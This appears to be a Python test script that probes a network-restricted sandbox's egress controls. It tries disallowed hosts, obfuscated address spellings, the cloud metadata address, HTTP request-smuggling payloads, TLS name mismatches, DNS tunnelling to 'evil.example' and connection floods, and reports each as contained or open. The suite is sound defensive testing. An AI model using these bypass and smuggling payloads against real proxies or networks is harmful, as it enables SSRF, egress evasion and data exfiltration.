# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The sa authors
"""Tries, inside a sandbox whose network has rules, to get round them.

A line for each try: "contained|NAME|WHY" or "OPEN|NAME|WHAT". With --count
it says how many there will be, with --options what the sandbox must be let to,
see net-lib.sh for what those names are.
"""
import random
import socket
import ssl
import struct
import sys
import threading
import time

OPTIONS = """web.example.com web.example.com:8443 *.example.net
intra.example.com loop.example.com meta.example.com mapped.example.com
nat64.example.com sixtofour.example.com both.example.com""".split()
PROXY = ("127.0.0.1", 3128)
SOCKS = ("127.0.0.1", 1080)
tries = []


def attempt(name):
    """One that returns what it got, or None where it was not let."""
    return lambda f: tries.append((name, f, True))


def works(name):
    """One that has to get something: what is refused is not all there is."""
    return lambda f: tries.append((name, f, False))


def talk(address, data, pause=0, pieces=0):
    """Sends data and reads to the end; "" for a connection that is ended."""
    with socket.create_connection(address, 100) as s:
        try:
            for i in range(0, len(data), pieces or len(data) or 1):
                s.sendall(data[i:i + (pieces or len(data))])
                time.sleep(pause)
            got = b""
            while piece := s.recv(65536):
                got += piece
                if b"\r\n\r\n" in got and b" 200 Conn" in got:
                    break
            return got
        except OSError:
            return b""


def connects(target):
    """A tunnel by the proxy, and where it is one."""
    request = b"CONNECT " + target + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    answer = talk(PROXY, request)
    return answer if b" 200 " in answer.partition(b"\r\n")[0] else None


def gets(address, request):
    """A request whose answer is the server's."""
    answer = talk(address, request.replace(b"\n", b"\r\n"))
    first = answer.partition(b"\r\n")[0]
    return answer if b" 200 " in first else None


def socks(kind, host, port):
    with socket.create_connection(SOCKS, 20) as s:
        s.sendall(b"\5\1\0")
        if s.recv(2) != b"\5\0":
            return None
        s.sendall(b"\5\1\0" + bytes([kind]) + host + struct.pack(">H", port))
        answer = s.recv(10)
        return answer if answer[1:2] == b"\0" else None


def by_name(host):
    h = host.encode()
    return socks(3, bytes([len(h)]) + h, 80)


def hello(name):
    """A client's first bytes of TLS."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    there = ssl.MemoryBIO()
    session = context.wrap_bio(ssl.MemoryBIO(), there, server_hostname=name)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return there.read()


def records(data, size):
    """The same in records of that size."""
    data, out = data[5:], b""
    for i in range(0, len(data), size):
        part = data[i:i + size]
        out += b"\x16\3\1" + struct.pack(">H", len(part)) + part
    return out


def greets(first, host="web.example.com", port=443, **how):
    """A server of TLS answers these first bytes with its own."""
    with socket.create_connection((host, port), 20) as s:
        try:
            size = how.get("pieces") or len(first)
            for i in range(0, len(first), size):
                s.sendall(first[i:i + size])
                time.sleep(how.get("pause", 0))
            answer = s.recv(5)
        except OSError:
            return None
        return answer if answer[:1] == b"\x16" else None


# A connection that says nothing, opened as all begins.
slow = []


def begin_slowly():
    for address in ("web.example.com", 443), PROXY, SOCKS:
        for _ in range(40):
            s = socket.create_connection(address, 20)
            s.sendall(b"\x16" if address[1] == 443 else b"C"
                      if address == PROXY else b"\5")
            slow.append(s)


# 45: names and addresses that are not allowed

@attempt("a name that is not allowed")
def _():
    return socket.getaddrinfo("evil.example.com", 80)


@attempt("a name above the one that is allowed")
def _():
    return socket.getaddrinfo("example.net", 80)


@attempt("the address of a host that is allowed by name")
def _():
    return socket.create_connection(("11.0.0.1", 80), 5)


@attempt("an IPv6 address")
def _():
    return socket.create_connection(("2606:4700::1111", 443), 5)


@attempt("a port of the host that is not allowed")
def _():
    return talk(("web.example.com", 2222), b"x") or None


@attempt("the host's own loopback")
def _():
    return socket.create_connection(("127.0.0.1", 2222), 5)


@attempt("a resolver elsewhere")
def _():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect(("11.0.0.1", 53))
    s.send(b"tunnel")
    return s.recv(99)


@attempt("UDP to a host that is allowed")
def _():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((socket.gethostbyname("web.example.com"), 53))
    s.send(b"tunnel")
    return s.recv(99)


@attempt("the listener that all is led to, itself")
def _():
    for line in open("/proc/net/tcp", encoding="ascii").readlines()[1:]:
        address, state = line.split()[1], line.split()[3]
        port = int(address.split(":")[1], 16)
        if state == "0A" and port not in (53, 1080, 3128):
            got = talk(("127.0.0.1", port), b"GET / HTTP/1.1\r\n\r\n")
            if got:
                return got
    return None


@attempt("a raw socket")
def _():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)


@attempt("a route of one's own")
def _():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)
    s.send(struct.pack("IHHII", 16 + len(body), 24, 0x405, 1, 0) + body)
    answer = s.recv(4096)
    return answer if struct.unpack("i", answer[16:20])[0] == 0 else None


# 46: names that lead to what nobody is let to

for name in ("intra", "loop", "meta", "mapped", "nat64", "sixtofour"):
    host = f"{name}.example.com"

    @attempt(f"{host}, by itself")
    def _(host=host):
        return gets((host, 80),
                    b"GET /no HTTP/1.1\nHost: %s\n\n" % host.encode())

    @attempt(f"{host}, by the proxy")
    def _(host=host):
        return connects(b"%s:80" % host.encode())

    @attempt(f"{host}, by SOCKS")
    def _(host=host):
        return by_name(host)


@works("a name with a private and a public address leads to the latter")
def _():
    return gets(("both.example.com", 80),
                b"GET /both HTTP/1.1\nHost: both.example.com\n\n")


# 47: spellings

for target in (
        b"evil.example.com:80", b"web.example.com.evil.example:80",
        b"evilweb.example.com:80", b"web.example.com\0.evil.example:80",
        b"web.example.com@evil.example:80", b"u:p@web.example.com:80",
        b"web.example.com%00:80", b"web.example.com/:80",
        b"a..example.net:80", b"*.example.net:80", b".example.net:80",
        b"-a.example.net:80", b"example.net:80", b"web.example.com..:80",
        b"web.example.com:0", b"web.example.com:99999", b"web.example.com:",
        b"web.example.com:25", b"web.example.com:22", b"web.example.com:+80",
        b"web.example.com:080000", b"web.example.com", b":80",
        b"127.0.0.1:80", b"127.1:80", b"0x7f.1:80", b"0x7f000001:80",
        b"2130706433:80", b"0177.0.0.1:80", b"127.0.0.1.:80", b"0:80",
        b"11.0.0.1:80", b"169.254.169.254:80", b"[::1]:80", b"::1:80",
        b"[::ffff:127.0.0.1]:80", b"[64:ff9b::7f00:1]:80",
        b"[fe80::1%25lo]:80", b"[fe80::1%lo]:80", b"localhost:80",
        b"sandbox:80", b"w\xc3\xabb.example.com:80", b"a" * 254 + b":80",
        b"a" * 70 + b".example.net:80"):
    shown = target.decode("ascii", "backslashreplace").replace("\0", "\\0")

    @attempt(f"CONNECT {shown[:40]}")
    def _(target=target):
        return connects(target)

    if target in (b"web.example.com", b"web.example.com:",
                  b"web.example.com/:80", b"web.example.com:22"):
        continue  # as a URL it is another one, or allowed

    @attempt(f"GET http://{shown[:40]}")
    def _(target=target):
        return gets(PROXY, b"GET http://" + target + b"/no HTTP/1.1\n\n")


@works("CONNECT with upper case and a final dot")
def _():
    return connects(b"WEB.Example.COM.:80")


@attempt("SOCKS to a name with a NUL")
def _():
    return by_name("web.example.com\0.evil.example")


@attempt("SOCKS to an address")
def _():
    return socks(1, bytes([11, 0, 0, 1]), 80)


@attempt("SOCKS to the metadata address")
def _():
    return socks(1, bytes([169, 254, 169, 254]), 80)


@attempt("SOCKS to an IPv6 address")
def _():
    return socks(4, bytes(10) + b"\xff\xff\x7f\0\0\1", 80)


@works("SOCKS to a name")
def _():
    return by_name("Web.example.com.")


# 48: TLS

@works("TLS with the name")
def _():
    return greets(hello("web.example.com"))


@works("TLS with the name, in pieces and records")
def _():
    return greets(records(hello("web.example.com"), 20), pieces=31,
                  pause=0.01)


@attempt("TLS with another name")
def _():
    return greets(hello("evil.example.com"))


@attempt("TLS with another name that is allowed too")
def _():
    return greets(hello("a.example.net"))


@attempt("TLS with another name, in pieces and records")
def _():
    return greets(records(hello("evil.example.com"), 20), pieces=31,
                  pause=0.01)


@attempt("TLS without a name")
def _():
    return greets(hello(None))


@attempt("TLS with another name on a port of its own")
def _():
    return greets(hello("evil.example.com"), port=8443)


@works("TLS with the name on a port of its own")
def _():
    return greets(hello("web.example.com"), port=8443)


@attempt("what is not TLS on port 443")
def _():
    return gets(("web.example.com", 443),
                b"GET /no HTTP/1.1\nHost: web.example.com\n\n")


@attempt("TLS with another name in a tunnel")
def _():
    with socket.create_connection(PROXY, 20) as s:
        s.sendall(b"CONNECT web.example.com:443 HTTP/1.1\r\n\r\n")
        assert b" 200 " in s.recv(4096)
        s.sendall(hello("evil.example.com"))
        try:
            return s.recv(99) or None
        except OSError:
            return None


# 49: HTTP

WEB = ("web.example.com", 80)


@works("HTTP for the host")
def _():
    return gets(WEB, b"GET /yes HTTP/1.1\nHost: Web.example.com\n\n")


for what, request in {
        "for another host": b"GET /no HTTP/1.1\nHost: evil.example.com\n\n",
        "for another host that is allowed":
            b"GET /no HTTP/1.1\nHost: a.example.net\n\n",
        "for another port": b"GET /no HTTP/1.1\nHost: web.example.com:81\n\n",
        "for no host": b"GET /no HTTP/1.1\nX: y\n\n",
        "for two hosts": b"GET /no HTTP/1.1\nHost: web.example.com\n"
            b"Host: evil.example.com\n\n",
        "for a host in its target":
            b"GET http://evil.example.com/no HTTP/1.1\n"
            b"Host: web.example.com\n\n",
        "with a length and chunks":
            b"POST /no HTTP/1.1\nHost: web.example.com\nContent-Length: 5\n"
            b"Transfer-Encoding: chunked\n\n0\n\nGET /smuggled HTTP/1.1\n"
            b"Host: evil.example.com\n\n",
        "with two lengths":
            b"POST /no HTTP/1.1\nHost: web.example.com\nContent-Length: 0\n"
            b"Content-Length: 44\n\nGET /smuggled HTTP/1.1\n\n",
        "with chunks that are none":
            b"POST /no HTTP/1.1\nHost: web.example.com\n"
            b"Transfer-Encoding: \x0bchunked\n\n0\n\n",
        "with a header in two lines":
            b"GET /no HTTP/1.1\nHost: web.example.com\nX: y\n z\n\n",
        "with a blank in a header's name":
            b"POST /no HTTP/1.1\nHost: web.example.com\n"
            b"Content-Length : 44\n\nGET /smuggled HTTP/1.1\n\n",
        "of version 0.9": b"GET /no\n\n",
        "of version 2": b"PRI * HTTP/2.0\n\nSM\n\n"}.items():
    @attempt(f"HTTP {what}")
    def _(request=request):
        return gets(WEB, request)


@attempt("HTTP with bare line feeds")
def _():
    answer = talk(WEB, b"GET /no HTTP/1.1\nHost: web.example.com\n\n")
    return answer if b" 200 " in answer else None


@works("of two requests in one connection the first")
def _():
    answer = gets(WEB, b"GET /first HTTP/1.1\nHost: web.example.com\n\n"
                  b"GET /smuggled HTTP/1.1\nHost: evil.example.com\n\n")
    return answer if answer.count(b"HTTP/1.1 200") == 1 else None


@works("a body and not what is behind it")
def _():
    answer = gets(WEB, b"POST /body HTTP/1.1\nHost: web.example.com\n"
                  b"Content-Length: 4\n\nbodyGET /smuggled HTTP/1.1\n"
                  b"Host: evil.example.com\n\n")
    return answer if answer.count(b"HTTP/1.1 200") == 1 else None


@attempt("a request in a tunnel for another host")
def _():
    with socket.create_connection(PROXY, 20) as s:
        s.sendall(b"CONNECT web.example.com:80 HTTP/1.1\r\n\r\n")
        assert b" 200 " in s.recv(4096)
        s.sendall(b"GET /no HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
        answer = s.recv(4096)
        return answer if b" 200 " in answer else None


@attempt("a proxy asked as a server")
def _():
    return gets(PROXY, b"GET /no HTTP/1.1\nHost: web.example.com\n\n")


# 50: DNS

@attempt("a thousand names that carry something out")
def _():
    found = 0
    for i in range(1000):
        name = f"tunnel{random.randrange(1 << 60):x}.evil.example"
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(20)
        query = struct.pack(">HHHHHH", i, 0x100, 1, 0, 0, 0)
        for label in name.split("."):
            query += bytes([len(label)]) + label.encode()
        s.sendto(query + b"\0\0\1\0\1", ("127.0.0.1", 53))
        answer = s.recv(512)
        found += answer[3] & 15 != 3 or answer[7] != 0
        s.close()
    return found or None


@works("names below one that is allowed are known at once")
def _():
    return [socket.gethostbyname(f"tunnel{i}.example.net")
            for i in range(50)]


@attempt("what is no address of a name")
def _():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    for kind in (2, 5, 6, 12, 15, 16, 28, 33, 65, 251, 252):
        s.sendto(struct.pack(">HHHHHH", kind, 0x100, 1, 0, 0, 0) +
                 b"\3web\7example\3com\0" + struct.pack(">HH", kind, 1),
                 ("127.0.0.1", 53))
        answer = s.recv(512)
        if answer[7] or answer[9] or answer[11]:
            return answer
    return None


# Bounds

@works("names that are asked for all at once")
def _():
    query = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + \
        b"\3web\7example\3com\0\0\1\0\1"
    asking = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
              for _ in range(500)]
    for s in asking:
        s.settimeout(60)
        s.sendto(query, ("127.0.0.1", 53))
    return [s.recv(512)[7] for s in asking] == [1] * 500 or None


@works("more connections at once than it has room for")
def _():
    request = b"GET /many HTTP/1.1\r\nHost: web.example.com\r\n\r\n"
    firsts = []

    def one():
        try:
            answer = talk(WEB, request)
        except OSError as e:
            answer = str(e).encode()
        firsts.append(answer.partition(b"\r\n")[0])
    threads = [threading.Thread(target=one) for _ in range(300)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert firsts == [b"HTTP/1.1 200 OK"] * 300, set(firsts)
    return len(firsts)


@attempt("connections that say nothing stay")
def _():
    end = time.monotonic() + 60
    for s in slow:
        s.settimeout(max(end - time.monotonic(), 0.1))
        try:
            while s.recv(4096):
                pass
        except socket.timeout:
            return "it stays open"
        except OSError:
            pass
    return None


def run():
    begin_slowly()
    for name, f, wrong in tries:
        try:
            got, why = f(), ""
        except (OSError, AssertionError) as e:
            got, why = None, str(e)
        fine = (got is None) == wrong
        verdict = "contained" if fine else "OPEN"
        print(f"{verdict}|{name}|{str(got)[:200]} {why}", flush=True)


if "--count" in sys.argv:
    print(len(tries))
elif "--options" in sys.argv:
    print(*(f"--allow-egress={name}" for name in OPTIONS))
else:
    run()
